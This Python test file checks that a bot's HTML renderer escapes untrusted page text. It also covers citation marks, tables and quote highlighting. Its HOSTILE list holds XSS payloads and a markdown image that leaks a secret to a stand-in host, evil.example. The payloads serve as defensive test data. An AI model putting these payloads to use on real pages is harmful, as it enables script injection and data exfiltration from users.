"""Untrusted text on a page: shown, never obeyed."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.web.pages.safe_html import answer_html, passage_html, quote_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "[x](javascript:alert(1))",
    '"><svg onload=alert(1)>',
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
    "> a \u00b7 <script>x</script>\n> 1 \u00b7 2",
    '```x" onclick="alert(1)\ncode\n```',
    '<button hx-get="/pages/IT/x" hx-trigger="load">x</button>',
    "\ue000<b>\ue001",
]
ALLOWED = (
    r"<(?!/?(?:p|ol|ul|li|mark|code|pre|blockquote|table|thead|tbody|tr|th|td)>"
    r"|br />|mark id=\"quote\">"
    r"|pre role=\"group\" aria-label=\"Code\" tabindex=\"0\">"
    r"|code class=\"[^\"]*\">|/?div"
    r"|a class=\"mark\" href=\"#[^\"]*\" aria-label=\"[^\"]*\">|/a>)"
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_link_image_or_script_comes_out_of_text(text: str) -> None:
    for html in (answer_html(text, "i", 1), passage_html(text, [text]), quote_html(text)):
        assert not re.search(ALLOWED, html)
        assert 'href="http' not in html


def test_a_code_block_that_is_too_wide_can_be_scrolled_by_keyboard() -> None:
    assert '<pre role="group" aria-label="Code" tabindex="0"><code>x' in answer_html(
        "```\nx\n```", "i", 0
    )


def test_a_mark_leads_to_its_source() -> None:
    html = answer_html("Open the client. [1]", "abc", 1)

    assert '<a class="mark" href="#s-abc-1" aria-label="Source 1">1</a>' in html


def test_an_index_in_code_is_no_mark() -> None:
    assert "items[1]" in answer_html("Use `items[1]`.", "abc", 1)


def test_the_backslashes_of_a_path_are_kept() -> None:
    path = "\\\\print.example\\QM-Print"

    assert path in answer_html(f"> {path} [1]", "abc", 1)
    assert path in quote_html(path)


def test_quoted_rows_are_a_table_again() -> None:
    html = answer_html("> Code \u00b7 Cure\n> 809 \u00b7 Call \\\\it|now [1]\n> Bye.", "abc", 1)

    assert "<td>Code</td>" in html
    assert "<td>Call \\\\it|now <a" in html
    assert "<thead>" not in html
    assert "Bye.</p>" in html


def test_one_line_with_a_dot_is_no_table() -> None:
    assert "<table" not in answer_html("> Monday \u00b7 9 to 17", "abc", 0)


def test_a_row_that_was_cut_out_of_a_table_is_shown_as_a_row() -> None:
    html = quote_html("| 443 | VPN |")

    assert "<td>443</td>" in html
    assert "<th" not in html


def test_a_whole_table_keeps_its_head() -> None:
    assert "<th>Port</th>" in quote_html("| Port | Use |\n|---|---|\n| 443 | VPN |")


def test_headings_of_a_page_stand_below_those_of_ours() -> None:
    assert "<h3>Setup</h3>" in passage_html("# Setup")


def test_a_mark_without_a_source_stays_text() -> None:
    assert "[2]" in answer_html("See [2].", "abc", 1)


def test_the_quote_is_highlighted_where_it_stands() -> None:
    html = passage_html("First.\n\n- Open it.\n- Close it.\n\nLast.", ["- Open it.\n- Close it."])

    assert html.count("<mark") == 2
    assert '<mark id="quote">Open it.</mark>' in html
    assert "First.</p>" in html


def test_each_cell_of_a_quoted_row_is_highlighted() -> None:
    table = "| Port | Use |\n|---|---|\n| 443 | VPN |\n| 22 | SSH |"

    html = passage_html(table, ["| 443 | VPN |"])

    assert '<td><mark id="quote">443</mark></td>' in html
    assert "<td><mark>VPN</mark></td>" in html
    assert "<td>22</td>" in html


def test_a_quote_that_is_not_there_highlights_nothing() -> None:
    assert "<mark" not in passage_html("Open it.", ["Close it."])


def test_several_quotes_are_highlighted_once_each_also_where_they_overlap() -> None:
    html = passage_html("Open it. Close it. Wait.", ["Close it.", "it. Close", "Open it."])

    assert re.findall("<mark.*?>(.*?)</mark>", html) == ["Open it. Close it."]


def test_a_row_is_found_by_its_cells_as_answers_write_them() -> None:
    html = passage_html("| Port | Use |\n|---|---|\n| 443 | VPN |", ["443 \u00b7 VPN"])

    assert '<td><mark id="quote">443</mark></td>' in html
    assert "<th>Port</th>" in html


@given(text=st.text(max_size=300), quote=st.text(max_size=50))
def test_any_text_gives_balanced_marks_and_no_raw_tags(text: str, quote: str) -> None:
    html = passage_html(text, [quote])

    assert html.count("<mark") == html.count("</mark>")
    assert "<script" not in html.lower()
